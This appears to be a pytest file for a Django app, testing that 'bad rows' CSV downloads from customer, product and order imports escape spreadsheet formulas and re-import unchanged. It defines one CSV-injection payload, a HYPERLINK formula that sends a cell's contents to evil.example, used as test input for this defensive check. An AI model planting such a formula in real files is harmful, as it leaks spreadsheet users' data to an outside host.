"""Issue #13: the "Download bad rows" CSV of every import escapes what a spreadsheet
would run as a formula, as the list exports do, and an escaped file imports back
as typed."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from customers.models import Customer
from tests.orders.conftest import (
    HISTORY_HEADER,
    shop,  # noqa: F401 - the fixture
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _upload(client, kind: str, text: str):
    response = client.post(
        reverse("imports:import-upload", args=[kind]),
        {"file": SimpleUploadedFile("file.csv", text.encode(), "text/csv")},
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    return response.url


def _bad_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def test_customer_bad_rows_escape_formulas(manager_client):
    preview = _upload(
        manager_client,
        "customers",
        f"name,email\n{_quoted(FORMULA)},not-an-email\n",
    )
    rows = _bad_rows(manager_client.get(preview + "bad-rows.csv"))
    assert rows[0]["name"] == "'" + FORMULA
    assert rows[0]["line"] == "2"


def test_product_bad_rows_escape_formulas(manager_client):
    preview = _upload(
        manager_client,
        "products",
        f"sku,name,category,list_price,cost\nP-1,{_quoted(FORMULA)},Tools,abc,1\n",
    )
    rows = _bad_rows(manager_client.get(preview + "bad-rows.csv"))
    assert rows[0]["name"] == "'" + FORMULA
    assert rows[0]["list_price"] == "abc"


@pytest.mark.usefixtures("shop")
def test_order_bad_rows_escape_formulas_in_values_and_reasons(manager_client):
    preview = _upload(
        manager_client,
        "orders",
        HISTORY_HEADER + f"A-1,{_quoted(FORMULA)},2024-01-10,P-1,1,10,,,,,\n",
    )
    rows = _bad_rows(manager_client.get(preview + "bad-rows.csv"))
    assert rows[0]["customer"] == "'" + FORMULA
    assert not rows[0]["reason"].startswith(("=", "+", "-", "@"))


def test_reasons_that_start_like_a_formula_are_escaped(manager_client):
    preview = _upload(
        manager_client,
        "customers",
        "name,email\n=1+1,not-an-email\n",
    )
    rows = _bad_rows(manager_client.get(preview + "bad-rows.csv"))
    assert all(
        not value.startswith(("=", "+", "-", "@"))
        for row in rows
        for value in row.values()
    )


def test_an_escaped_bad_rows_file_imports_back_as_typed(manager_client, rep):
    preview = _upload(
        manager_client,
        "customers",
        f"name,email,owner\n{_quoted(FORMULA)},not-an-email,{rep.username}\n",
    )
    text = manager_client.get(preview + "bad-rows.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    fixed = io.StringIO()
    writer = csv.writer(fixed)
    writer.writerow(["name", "owner"])
    writer.writerow([rows[0]["name"], rows[0]["owner"]])
    preview = _upload(manager_client, "customers", fixed.getvalue())
    manager_client.post(preview, {"action": "import"})
    assert Customer.objects.get().name == FORMULA
